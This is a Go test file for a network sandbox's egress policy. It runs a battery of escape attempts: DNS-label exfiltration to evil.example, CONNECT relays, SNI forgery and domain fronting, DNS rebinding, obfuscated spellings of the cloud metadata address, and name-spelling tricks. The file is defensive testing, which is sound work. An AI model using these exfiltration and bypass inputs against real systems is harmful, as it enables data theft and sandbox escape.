package battery_test

import (
	"encoding/hex"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	"aether/sandbox"
)

// TestBattery runs each attack in a cell that has a policy, where it is held, and without
// anything in its way, where it works: one that does not would prove nothing.
func TestBattery(t *testing.T) {
	l := newLot(t)
	for _, a := range []struct {
		name string
		run  func(*lot, *testing.T)
	}{
		{"names that carry data out", (*lot).labels}, {"names that are resolved before they are denied", (*lot).resolvedFirst},
		{"requests that are not encrypted", (*lot).plainRequests}, {"relays", (*lot).relays}, {"forged hellos", (*lot).forgedHellos},
		{"domain fronting", (*lot).fronting}, {"hidden names", (*lot).hiddenNames}, {"names over HTTPS and TLS", (*lot).namesElsewhere},
		{"QUIC", (*lot).quic}, {"ICMP", (*lot).icmp}, {"IPv6", (*lot).version6}, {"rebinding", (*lot).rebinding}, {"metadata", (*lot).metadata},
		{"io_uring", (*lot).uring}, {"descriptors that are passed", (*lot).passedDescriptors}, {"policy changes", (*lot).policyChanges},
		{"forks", (*lot).forks}, {"two sandboxes", (*lot).twoSandboxes}, {"spellings", (*lot).spellings}, {"hosts files", (*lot).hostsFiles},
		{"floods of SYNs", (*lot).floodBegun}, {"floods of connections", (*lot).floodConnections}, {"floods of tiny windows", (*lot).floodWindows},
		{"floods of fragments", (*lot).floodFragments},
	} {
		t.Run(a.name, func(t *testing.T) { a.run(l, t) })
	}
}

// reaching is a policy that allows what is listed.
func reaching(allow ...string) sandbox.Network {
	return sandbox.Network{Mode: sandbox.EgressNetwork, Allow: allow}
}

// get is a request, quoted.
func get(host string) string { return `GET / HTTP/1.0\r\nHost: ` + host + `\r\n\r\n` }

// held wants an attack to be held in a cell.
func (b *box) held(t *testing.T, args ...string) string {
	t.Helper()
	got := b.attack(t, args...)
	if !strings.HasPrefix(got, "held: ") {
		t.Errorf("in a cell, %.300q: %s", args, got)
	}
	return got
}

// reached wants one to work.
func (b *box) reached(t *testing.T, args ...string) string {
	t.Helper()
	got := b.attack(t, append([]string{"patient"}, args...)...)
	if !strings.HasPrefix(got, "reached: ") {
		t.Errorf("%.300q: %s", args, got)
	}
	return strings.TrimPrefix(got, "reached: ")
}

// heldOnlyThere wants one to be held in a cell, and to work without.
func (b *box) heldOnlyThere(t *testing.T, args ...string) {
	t.Helper()
	b.held(t, args...)
	plain.reached(t, args...)
}

func (l *lot) labels(t *testing.T) {
	b := l.cell(t, reaching("ok.example", "*.ok-wide.example"))
	b.held(t, "dns", "s3cr3t-inside|evil|example", evil+":53", resolver+":53")
	b.held(t, "say", "s3cr3t-inside.evil.example:80", "this is", get("evil.example"))
	b.held(t, "dns", strings.Repeat("x", 60)+"|s3cr3t-inside|ok|example")
	if n := l.names.count("s3cr3t-inside"); n > 0 {
		t.Errorf("%d questions of a cell got out", n)
	}
	plain.reached(t, "dns", "s3cr3t-plain|evil|example")
	if n := l.names.count("s3cr3t-plain"); n == 0 {
		t.Error("no question got out without a cell")
	}
	// What no policy can hold is bounded: names below one that is allowed.
	began := time.Now()
	b.reached(t, "many", "300", "ok-wide.example")
	inside, most := l.names.different("ok-wide.example"), 100+10*(1+int(time.Since(began).Seconds()))
	if inside == 0 || inside > most {
		t.Errorf("%d names got out, of at most %d", inside, most)
	}
	if said := plain.reached(t, "many", "300", "plain.evil.example"); said != "300 names" {
		t.Errorf("without a cell: %s", said)
	}
}

func (l *lot) resolvedFirst(t *testing.T) {
	n := reaching("ok.example", "*.ok-wide.example")
	n.Deny = []string{"secret.ok-wide.example"}
	b := l.cell(t, n)
	b.held(t, "say", "secret.ok-wide.example:80", "this is", get("secret.ok-wide.example"))
	for _, port := range []int{80, relayPort} {
		b.held(t, "say", fmt.Sprint("ok.example:", port), "this is", `CONNECT leak.evil.example:80 HTTP/1.1\r\nHost: leak.evil.example:80\r\n\r\n`, get("leak.evil.example"))
		b.held(t, "say", fmt.Sprint("ok.example:", port), "this is", `GET http://leak.evil.example/ HTTP/1.1\r\nHost: ok.example\r\n\r\n`)
	}
	n.Proxy = fmt.Sprint("socks5://", okay, ":", proxyPort)
	proxied := l.cell(t, n)
	proxied.reached(t, "say", "ok.example:80", "at "+okay, get("ok.example"))
	for _, host := range []string{"leak.evil.example", "secret.ok-wide.example", evil} {
		proxied.held(t, "say", host+":80", "this is", get(host))
	}
	if l.proxied.count("ok.example") == 0 {
		t.Error("the proxy was not used")
	}
	for _, part := range []string{"leak", "secret.ok-wide", evil} {
		if n, told := l.names.count(part), l.proxied.count(part); n+told > 0 {
			t.Errorf("%s was resolved %d times, and told to a proxy %d times", part, n, told)
		}
	}
	plain.reached(t, "say", "secret.ok-wide.example:80", "this is", get("secret.ok-wide.example"))
	plain.reached(t, "say", "ok.example:80", "at "+evil, `CONNECT leak.evil.example:80 HTTP/1.1\r\nHost: leak.evil.example:80\r\n\r\n`, get("leak.evil.example"))
	if l.names.count("secret.ok-wide") == 0 {
		t.Error("without a cell nothing was resolved")
	}
}

// plainRequests: ok.example and shared.example are one server, which goes by the name in a
// request.
func (l *lot) plainRequests(t *testing.T) {
	b := l.cell(t, reaching("ok.example"))
	for _, port := range []int{80, relayPort} {
		at := fmt.Sprint("ok.example:", port)
		b.reached(t, "say", at, "this is ok.example", get("ok.example"))
		b.heldOnlyThere(t, "say", at, "this is shared.example", get("shared.example"))
		b.heldOnlyThere(t, "say", at, "this is shared.example", `G`, `ET / HT`, `TP/1.0\r\nHost: shared.example\r\n\r\n`)
		b.heldOnlyThere(t, "say", at, "this is shared.example", `X1 / HTTP/1.0\r\nHost: shared.example\r\n\r\n`)
		b.heldOnlyThere(t, "say", at, "this is shared.example", `GET http://shared.example/ HTTP/1.1\r\nHost: ok.example\r\n\r\n`)
		b.heldOnlyThere(t, "say", at, "this is shared.example", `GET / HTTP/1.1\r\nHost: ok.example\r\n\r\nGET / HTTP/1.1\r\nHost: shared.example\r\n\r\n`)
	}
}

func (l *lot) relays(t *testing.T) {
	b := l.cell(t, reaching("ok.example"))
	for _, port := range []int{80, relayPort} {
		for _, host := range []string{"evil.example", "meta.example", "private.example"} {
			connect := fmt.Sprintf(`CONNECT %s:80 HTTP/1.1\r\nHost: %[1]s:80\r\n\r\n`, host)
			b.heldOnlyThere(t, "say", fmt.Sprint("ok.example:", port), "this is", connect, get(host))
		}
	}
}

func (l *lot) forgedHellos(t *testing.T) {
	b := l.cell(t, reaching("ok.example"))
	b.reached(t, "tls", "ok.example:443", "ok.example", "ok.example", "at "+okay)
	b.heldOnlyThere(t, "tls", "ok.example:443", "shared.example", "shared.example", "this is shared.example")
	b.heldOnlyThere(t, "tls", "ok.example:443", "shared.example", "shared.example", "this is shared.example", "alert")
	b.reached(t, "tls", "ok.example:443", "ok.example", "ok.example", "at "+okay, "alert")
	b.heldOnlyThere(t, "tls", evil+":443", "ok.example", "ok.example", "at "+evil)
	b.heldOnlyThere(t, "tls", "evil.example:443", "ok.example", "ok.example", "at "+evil)
}

// fronting: a hello for one name and a request for another. Where nothing is said about
// requests, TLS is not opened: that is not promised, and here is why not.
func (l *lot) fronting(t *testing.T) {
	n := reaching("ok.example")
	fronted := []string{"tls", "ok.example:443", "ok.example", "shared.example", "this is shared.example"}
	l.cell(t, n).reached(t, fronted...)
	n.HTTP = []sandbox.HTTPRule{{Host: "ok.example"}}
	b := l.cell(t, n)
	b.reached(t, "tls", "ok.example:443", "ok.example", "ok.example", "this is ok.example")
	b.heldOnlyThere(t, fronted...)
}

// hiddenNames: the hello shows ok.example and is for shared.example.
func (l *lot) hiddenNames(t *testing.T) {
	b := l.cell(t, reaching("ok.example"))
	b.heldOnlyThere(t, "tls", "ok.example:443", "shared.example", "shared.example", "this is shared.example", hex.EncodeToString(l.hidden))
}

// namesElsewhere: a host that is allowed may know names. What it says is of no use.
func (l *lot) namesElsewhere(t *testing.T) {
	b := l.cell(t, reaching("doh.example"))
	for _, way := range []string{"doh", "dot"} {
		// It is patient with who answers; who must not is refused at once.
		if said := b.held(t, "patient", way, "doh.example", "evil.example", "this is evil.example"); !strings.Contains(said, "answered "+evil) {
			t.Errorf("%s: %s", way, said)
		}
		plain.reached(t, way, "doh.example", "evil.example", "this is evil.example")
	}
}

func (l *lot) quic(t *testing.T) {
	b := l.cell(t, reaching(sandbox.PublicList, "ok.example", "ok.example/udp", okay+"/udp"))
	b.reached(t, "datagram", "ok.example:7")
	b.heldOnlyThere(t, "datagram", "ok.example:443")
	b.heldOnlyThere(t, "datagram", okay+":443")
}

func (l *lot) icmp(t *testing.T) {
	b := l.cell(t, reaching(sandbox.PublicList, okay, okay+"/udp"))
	b.heldOnlyThere(t, "ping", okay)
	b.held(t, "ping", sandbox.Gateway)
}

// version6: packets of it go nowhere, and a host that has no other address is reached by
// its name, where that is allowed.
func (l *lot) version6(t *testing.T) {
	b := l.cell(t, reaching(sandbox.PublicList, "2606:2800::/32"))
	b.heldOnlyThere(t, "say", "[2606:2800::1]:80", "this is", get("six.example"))
	b.reached(t, "say", "six.example:80", "at 2606:2800::1", get("six.example"))
	l.cell(t, reaching("ok.example")).heldOnlyThere(t, "say", "six.example:80", "at 2606:2800::1", get("six.example"))
}

func (l *lot) rebinding(t *testing.T) {
	b := l.cell(t, reaching("rebind.example"))
	b.heldOnlyThere(t, "again", "rebind.example", "at "+metadata)
	if l.names.count("rebind.example") < 3 {
		t.Error("the name did not change")
	}
}

// metadata: its addresses, private ones and the host's own are reached by nobody who was
// not allowed them by themselves.
func (l *lot) metadata(t *testing.T) {
	b := l.cell(t, reaching(sandbox.PublicList, "meta.example", "mapped.example", "nat64.example", "private.example"))
	want := "at " + metadata
	for _, host := range []string{metadata, "[::ffff:" + metadata + "]", "[::ffff:a9fe:a9fe]", "meta.example", "mapped.example"} {
		b.heldOnlyThere(t, "say", host+":80", want, get("meta.example"))
	}
	for _, host := range []string{"2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "::ffff:169.254.169.254"} {
		b.heldOnlyThere(t, "form", host, want, get("meta.example"))
	}
	b.held(t, "say", "nat64.example:80", "this is", get("nat64.example"))
	b.heldOnlyThere(t, "say", "private.example:80", "at 10.99.0.1", get("private.example"))
	for _, host := range []string{ours, "ours.example"} {
		b.heldOnlyThere(t, "say", host+":80", "at "+ours, get("ours.example"))
	}
	l.cell(t, reaching("ours.example", ours)).reached(t, "say", "ours.example:80", "at "+ours, get("ours.example"))
}

func (l *lot) uring(t *testing.T) {
	if got := plain.attack(t, "uring", evil+":80", "evil.example", "at "+evil); strings.HasPrefix(got, "held: io_uring_setup") {
		t.Skipf("this host has no io_uring: %s", got)
	}
	l.cell(t, reaching("ok.example")).heldOnlyThere(t, "uring", evil+":80", "evil.example", "at "+evil)
}

// spellings: those that are another way to write a name are that name, and all others
// nobody's, who are not asked about.
func (l *lot) spellings(t *testing.T) {
	b := l.cell(t, reaching("ok.example", "xn--bcher-kva.example"))
	before := len(l.names.since(0))
	address := b.reached(t, "dns", "ok|example")
	for _, name := range []string{"OK|EXAMPLE", "oK|eXample"} {
		if got := b.reached(t, "dns", name); got != address {
			t.Errorf("%q is at %s, and ok.example at %s", name, got, address)
		}
	}
	b.reached(t, "dns", "XN--BCHER-KVA|example")
	for _, host := range []string{"ok.example.", "OK.EXAMPLE"} {
		b.reached(t, "say", host+":80", "at "+okay, get(host))
	}
	for _, name := range []string{`ok|example\x00|evil|example`, `ok\x00|example`, `ok|example|evil|example`, "ok.example|evil|example"} {
		b.held(t, "dns", name)
	}
	for _, name := range []string{`b\u00fccher|example`, `ok\u3002example`, `o\u212a|example`, `ok|example\uff0eevil|example`, `ok |example`, `ok\t|example`, `|ok|example`, `*|ok|example`} {
		b.held(t, "dns", name)
	}
	for _, name := range l.names.since(before) {
		if name != "ok.example" && name != "xn--bcher-kva.example" {
			t.Errorf("a question for %q got out", name)
		}
	}
	for _, host := range []string{"SHARED.example", "shared.example."} {
		b.heldOnlyThere(t, "say", "ok.example:80", "this is "+host, get(host))
		b.heldOnlyThere(t, "tls", "ok.example:443", host, host, "this is "+host)
	}
	b.held(t, "say", "ok.example:80", "this is", get(`ok.example\x00.evil.example`))
	plain.reached(t, "dns", `ok|example\x00|evil|example`)
}

// hostsFiles: what a file of the sandbox says is at an address, which the policy allows or
// not.
func (l *lot) hostsFiles(t *testing.T) {
	const file = "/etc/hosts" // of the world
	before, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	b := l.cell(t, reaching("ok.example"))
	b.heldOnlyThere(t, "hosts", "ok.example", evil, "at "+evil)
	if err := os.WriteFile(file, before, 0); err != nil {
		t.Fatal(err)
	}
}
